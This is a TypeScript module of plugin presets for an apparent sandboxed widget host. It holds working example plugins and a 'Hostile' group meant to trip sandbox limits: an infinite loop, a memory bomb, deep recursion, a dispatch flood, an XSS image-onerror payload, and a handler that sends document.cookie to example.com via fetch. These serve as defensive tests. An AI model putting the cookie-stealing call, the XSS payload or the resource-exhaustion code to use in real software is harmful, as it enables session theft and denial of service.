/**
 * @module presets
 * Plugins a person can add with one click: small working examples, the benchmark widget (read
 * from the shared fixtures at build time, so it cannot drift) and hostile plugins, each of
 * which must end in its typed error while every other plugin keeps working.
 */
import { todo50Code, todo50State } from 'virtual:corral-bench';
import type { JSONValue } from '@corral/contracts';

export interface PresetPlugin {
  name: string;
  code: string;
  /** A starting state other than the plugin's own `initialState`. */
  state?: JSONValue;
}

export interface Preset {
  id: string;
  label: string;
  group: 'Examples' | 'Hostile';
  /** What a person should expect to see. */
  expect: string;
  plugins: PresetPlugin[];
}

const counter = `// A counter: one widget, one handler, one reducer.
definePlugin({
  title: "Counter",
  initialState: { count: 0 },
  reducers: {
    increment: function (state, payload) {
      return { count: state.count + payload.by };
    },
    reset: function () {
      return { count: 0 };
    },
  },
  widgets: {
    main: {
      title: "Counter",
      render: function (ctx) {
        return {
          kind: "panel",
          title: "Counter",
          children: [
            { kind: "text", text: "Count: " + ctx.pluginState.count },
            {
              kind: "row",
              gap: "small",
              children: [
                { kind: "button", label: "+1", variant: "primary", onClick: { handler: "inc" } },
                { kind: "button", label: "Reset", onClick: { handler: "reset" } },
              ],
            },
          ],
        };
      },
    },
  },
  handlers: {
    inc: function (ctx) {
      ctx.log("increment from " + ctx.pluginState.count);
      ctx.dispatchPluginAction("increment", { by: 1 });
    },
    reset: function (ctx) {
      ctx.dispatchPluginAction("reset");
    },
  },
});
`;

const todo = `// A todo list: a controlled input, checkboxes and per-item buttons.
definePlugin({
  title: "Todo list",
  initialState: { draft: "", nextId: 3, items: [
    { id: 1, text: "Read the plugin API", done: true },
    { id: 2, text: "Write a widget", done: false },
  ] },
  reducers: {
    draft: function (s, p) { return Object.assign({}, s, { draft: p.value }); },
    add: function (s) {
      var text = s.draft.trim();
      if (!text) return s;
      return Object.assign({}, s, {
        draft: "", nextId: s.nextId + 1,
        items: s.items.concat([{ id: s.nextId, text: text, done: false }]),
      });
    },
    toggle: function (s, p) {
      return Object.assign({}, s, { items: s.items.map(function (i) {
        return i.id === p.id ? Object.assign({}, i, { done: !i.done }) : i;
      }) });
    },
    remove: function (s, p) {
      return Object.assign({}, s, { items: s.items.filter(function (i) { return i.id !== p.id; }) });
    },
  },
  widgets: {
    main: {
      title: "Todos",
      render: function (ctx) {
        var s = ctx.pluginState;
        var left = s.items.filter(function (i) { return !i.done; }).length;
        return {
          kind: "panel",
          title: "Todos",
          children: [
            { kind: "row", gap: "small", children: [
              { kind: "input", label: "New todo", placeholder: "What needs doing?", value: s.draft,
                onChange: { handler: "draft" }, onSubmit: { handler: "add" } },
              { kind: "button", label: "Add", variant: "primary", onClick: { handler: "add" } },
            ] },
            { kind: "list", children: s.items.map(function (i) {
              return { kind: "row", key: String(i.id), gap: "small", children: [
                { kind: "checkbox", label: i.text, checked: i.done,
                  onChange: { handler: "toggle", args: { id: i.id } } },
                { kind: "button", label: "Remove " + i.text, variant: "danger",
                  onClick: { handler: "remove", args: { id: i.id } } },
              ] };
            }) },
            { kind: "text", tone: "muted", text: left + " of " + s.items.length + " left" },
          ],
        };
      },
    },
  },
  handlers: {
    draft: function (ctx) { ctx.dispatchPluginAction("draft", { value: String(ctx.event.value) }); },
    add: function (ctx) { ctx.dispatchPluginAction("add"); },
    toggle: function (ctx) { ctx.dispatchPluginAction("toggle", { id: ctx.event.args.id }); },
    remove: function (ctx) { ctx.dispatchPluginAction("remove", { id: ctx.event.args.id }); },
  },
});
`;

const clock = `// A clock: plugins have no timers; the host re-renders every refreshMs with a fresh now().
function pad(n) { return (n < 10 ? "0" : "") + n; }
definePlugin({
  title: "Clock",
  widgets: {
    main: {
      title: "Clock",
      refreshMs: 1000,
      render: function (ctx) {
        var d = new Date(ctx.now());
        var time = pad(d.getUTCHours()) + ":" + pad(d.getUTCMinutes()) + ":" + pad(d.getUTCSeconds());
        return {
          kind: "panel",
          title: "Clock",
          children: [
            { kind: "heading", level: 2, text: time + " UTC" },
            { kind: "text", tone: "muted", text: "Re-rendered by the host every second" },
          ],
        };
      },
    },
  },
});
`;

const expenses = `// An expense tracker: text and number inputs, a select, a table.
var CATEGORIES = [
  { value: "food", label: "Food" },
  { value: "travel", label: "Travel" },
  { value: "office", label: "Office" },
];
definePlugin({
  title: "Expenses",
  initialState: { what: "", amount: "", category: "food", rows: [["Coffee", "food", 3.5]] },
  reducers: {
    field: function (s, p) { var n = Object.assign({}, s); n[p.name] = p.value; return n; },
    add: function (s) {
      var amount = Number(s.amount);
      if (!s.what.trim() || !(amount > 0)) return s;
      return Object.assign({}, s, { what: "", amount: "",
        rows: s.rows.concat([[s.what.trim(), s.category, Math.round(amount * 100) / 100]]) });
    },
  },
  widgets: {
    main: {
      title: "Expenses",
      render: function (ctx) {
        var s = ctx.pluginState;
        var total = s.rows.reduce(function (t, r) { return t + r[2]; }, 0);
        return {
          kind: "panel",
          title: "Expenses",
          children: [
            { kind: "row", gap: "small", children: [
              { kind: "input", label: "Description", value: s.what,
                onChange: { handler: "field", args: { name: "what" } }, onSubmit: { handler: "add" } },
              { kind: "input", label: "Amount", inputType: "number", value: s.amount,
                onChange: { handler: "field", args: { name: "amount" } }, onSubmit: { handler: "add" } },
              { kind: "select", label: "Category", value: s.category, options: CATEGORIES,
                onChange: { handler: "field", args: { name: "category" } } },
              { kind: "button", label: "Add expense", variant: "primary", onClick: { handler: "add" } },
            ] },
            { kind: "table", columns: ["What", "Category", "Amount"], rows: s.rows },
            { kind: "row", gap: "small", children: [
              { kind: "text", text: "Total" },
              { kind: "badge", tone: total > 100 ? "warning" : "success", text: total.toFixed(2) },
            ] },
          ],
        };
      },
    },
  },
  handlers: {
    field: function (ctx) {
      ctx.dispatchPluginAction("field", { name: ctx.event.args.name, value: String(ctx.event.value) });
    },
    add: function (ctx) { ctx.dispatchPluginAction("add"); },
  },
});
`;

const shared = (
  who: string,
) => `// Plugin ${who} of two sharing the host's global counter through an allowed global action.
definePlugin({
  title: "Shared counter ${who}",
  widgets: {
    main: {
      title: "Shared counter ${who}",
      render: function (ctx) {
        return {
          kind: "panel",
          title: "Shared counter ${who}",
          children: [
            { kind: "text", text: "Shared count: " + ctx.globalState.counter },
            { kind: "button", label: "Increment shared (${who})", onClick: { handler: "bump" } },
          ],
        };
      },
    },
  },
  handlers: {
    bump: function (ctx) { ctx.dispatchGlobalAction("counter/increment", { by: 1 }); },
  },
});
`;

const loop = `// Hostile: render never returns. The deadline interrupts it (LIMIT_TIME) on every refresh.
definePlugin({
  title: "Infinite loop",
  widgets: {
    main: {
      title: "Infinite loop",
      refreshMs: 250,
      render: function () {
        while (true) {}
      },
    },
  },
});
`;

const memoryBomb = `// Hostile: allocates until the heap cap stops it (LIMIT_MEMORY).
definePlugin({
  title: "Memory bomb",
  widgets: {
    main: {
      title: "Memory bomb",
      render: function () {
        var hoard = [], s = "0123456789abcdef";
        while (true) { s = s + s; hoard.push(s); }
      },
    },
  },
});
`;

const recursion = `// Hostile: unbounded recursion; the stack budget stops it (LIMIT_STACK).
function dive(n) { return dive(n + 1) + 1; }
definePlugin({
  title: "Deep recursion",
  widgets: {
    main: { title: "Deep recursion", render: function () { return { kind: "text", text: String(dive(0)) }; } },
  },
});
`;

const globals = `// Hostile: reaches for the browser. There is no window, document or fetch in the sandbox.
definePlugin({
  title: "Reaching out",
  widgets: {
    main: {
      title: "Reaching out",
      render: function () {
        return {
          kind: "panel",
          title: "What the sandbox sees",
          children: [
            { kind: "text", text: "typeof window: " + typeof window },
            { kind: "text", text: "typeof document: " + typeof document },
            { kind: "text", text: "typeof fetch: " + typeof fetch },
            { kind: "button", label: "Call fetch", onClick: { handler: "steal" } },
          ],
        };
      },
    },
  },
  handlers: {
    steal: function () { fetch("https://example.com/?cookie=" + document.cookie); },
  },
});
`;

const malformed = `// Hostile: returns markup the host must refuse (INVALID_OUTPUT), never insert.
definePlugin({
  title: "Malformed tree",
  widgets: {
    main: {
      title: "Malformed tree",
      render: function () {
        return { kind: "html", html: "<img src=x onerror=alert(1)>" };
      },
    },
  },
});
`;

const flood = `// Hostile: one click asks for ten thousand dispatches (DISPATCH_LIMIT); none is applied.
definePlugin({
  title: "Dispatch flood",
  initialState: { floods: 0 },
  reducers: { flooded: function (s) { return { floods: s.floods + 1 }; } },
  widgets: {
    main: {
      title: "Dispatch flood",
      render: function (ctx) {
        return {
          kind: "panel",
          title: "Dispatch flood",
          children: [
            { kind: "text", text: "Floods applied: " + ctx.pluginState.floods },
            { kind: "button", label: "Flood", variant: "danger", onClick: { handler: "flood" } },
          ],
        };
      },
    },
  },
  handlers: {
    flood: function (ctx) {
      for (var i = 0; i < 10000; i++) ctx.dispatchPluginAction("flooded");
    },
  },
});
`;

export const PRESETS: Preset[] = [
  {
    id: 'counter',
    label: 'Counter',
    group: 'Examples',
    expect: 'Click +1',
    plugins: [{ name: 'Counter', code: counter }],
  },
  {
    id: 'todo',
    label: 'Todo list',
    group: 'Examples',
    expect: 'Add, tick and remove items',
    plugins: [{ name: 'Todo list', code: todo }],
  },
  {
    id: 'clock',
    label: 'Clock',
    group: 'Examples',
    expect: 'Ticks every second',
    plugins: [{ name: 'Clock', code: clock }],
  },
  {
    id: 'expenses',
    label: 'Expense tracker',
    group: 'Examples',
    expect: 'Inputs, a select and a table',
    plugins: [{ name: 'Expenses', code: expenses }],
  },
  {
    id: 'shared',
    label: 'Shared global counter (two plugins)',
    group: 'Examples',
    expect: 'Either button updates both',
    plugins: [
      { name: 'Shared A', code: shared('A') },
      { name: 'Shared B', code: shared('B') },
    ],
  },
  {
    id: 'todo50',
    label: 'Benchmark widget (todo50)',
    group: 'Examples',
    expect: 'The 48-node benchmark tree',
    plugins: [{ name: 'todo50', code: todo50Code, state: todo50State }],
  },
  {
    id: 'loop',
    label: 'Infinite loop',
    group: 'Hostile',
    expect: 'LIMIT_TIME',
    plugins: [{ name: 'Infinite loop', code: loop }],
  },
  {
    id: 'memory',
    label: 'Memory bomb',
    group: 'Hostile',
    expect: 'LIMIT_MEMORY',
    plugins: [{ name: 'Memory bomb', code: memoryBomb }],
  },
  {
    id: 'recursion',
    label: 'Deep recursion',
    group: 'Hostile',
    expect: 'LIMIT_STACK',
    plugins: [{ name: 'Deep recursion', code: recursion }],
  },
  {
    id: 'globals',
    label: 'Reaching for window/document/fetch',
    group: 'Hostile',
    expect: 'undefined, then PLUGIN_THREW',
    plugins: [{ name: 'Reaching out', code: globals }],
  },
  {
    id: 'malformed',
    label: 'Malformed UI tree',
    group: 'Hostile',
    expect: 'INVALID_OUTPUT',
    plugins: [{ name: 'Malformed tree', code: malformed }],
  },
  {
    id: 'flood',
    label: 'Dispatch flood',
    group: 'Hostile',
    expect: 'DISPATCH_LIMIT',
    plugins: [{ name: 'Dispatch flood', code: flood }],
  },
];

export const DEFAULT_PRESETS = ['counter', 'todo'];

export function presetById(id: string): Preset | undefined {
  return PRESETS.find((p) => p.id === id);
}
